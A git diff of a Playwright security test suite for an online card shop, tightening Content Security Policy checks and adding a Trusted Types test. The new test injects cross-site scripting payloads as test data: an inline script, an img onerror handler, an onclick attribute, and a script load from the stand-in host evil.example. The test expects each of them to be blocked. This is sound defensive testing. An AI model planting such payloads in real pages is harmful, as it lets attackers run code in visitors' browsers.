@@ -3,7 +3,7 @@ import type { Page } from '@playwright/test'
 import type { Product } from '@sideboard/contract/catalog.ts'
 import type { Client } from '@sideboard/contract/client.ts'
 import { findCard, findSealed, listCards, priceTagOf } from './find-products.ts'
-import { expect, test } from './fixtures.ts'
+import { expect, openPage, test } from './fixtures.ts'
 import { addToCart, fact, suggestions } from './product-page.ts'
 
 test.use({ javaScriptEnabled: false })
@@ -203,11 +203,20 @@ test('a visitor’s browser runs only the scripts the shop has signed', { tag: '
     for (const loose of ["'unsafe-inline'", "'unsafe-eval'", '*', 'https:', 'data:']) {
       expect(scriptSources, path).not.toContain(loose)
     }
-    const inline = [...(await answer.text()).matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)]
+    const html = await answer.text()
+    // What is marked as data is not run.
+    const inline = [...html.matchAll(/<script(?![^>]*\s(?:src=|type="application\/))[^>]*>([\s\S]*?)<\/script>/g)]
     expect(inline.length, path).toBeGreaterThan(0)
     for (const [, script = ''] of inline) {
       expect(scriptSources, path).toContain(`'sha256-${createHash('sha256').update(script).digest('base64')}'`)
     }
+    expect(policy, path).not.toContain("style-src 'self' 'unsafe-inline'")
+    expect(html, path).not.toMatch(/<[^>]* style="/)
+    // Strangers' words stand in data, which cannot run.
+    expect(
+      inline.some(([, script = '']) => script.includes('loaderData')),
+      path,
+    ).toBe(false)
     expect(policy, path).toContain("object-src 'none'")
     expect(policy, path).toContain("base-uri 'self'")
     expect(policy, path).toContain("frame-ancestors 'none'")
@@ -220,6 +229,38 @@ test('a visitor’s browser runs only the scripts the shop has signed', { tag: '
     expect(answer.headers(), path).not.toHaveProperty('x-powered-by')
   }
 })
+
+test(
+  'whatever gets into a page or into one of its scripts, no string of it becomes markup or a script',
+  { tag: '@once' },
+  async ({ page, watch, baseURL }) => {
+    watch.expectTrouble(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/)
+    // As if a text had been written into the page without being escaped.
+    await page.route(`${baseURL}/faq`, async (route) => {
+      const answer = await route.fetch()
+      const body = (await answer.text()).replace('</body>', '<script>window.stolen = true</script></body>')
+      await route.fulfill({ response: answer, body })
+    })
+    await openPage(page, '/faq')
+    const tried = await page.evaluate(() => {
+      const attempts = [
+        () => (document.createElement('div').innerHTML = '<img src="/x" onerror="window.stolen = true">'),
+        () => (document.createElement('script').src = 'https://evil.example/x.js'),
+        () => (document.createElement('script').text = 'window.stolen = true'),
+        () => document.body.setAttribute('onclick', 'window.stolen = true'),
+      ]
+      return attempts.map((attempt) => {
+        try {
+          return attempt()
+        } catch (error) {
+          return (error as Error).name
+        }
+      })
+    })
+    expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])
+    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+  },
+)
 
 test('a visitor who has a page already does not download it again', { tag: '@once' }, async ({ request, api }) => {
   const card = await findCard(api, (c) => c.image_url !== null)
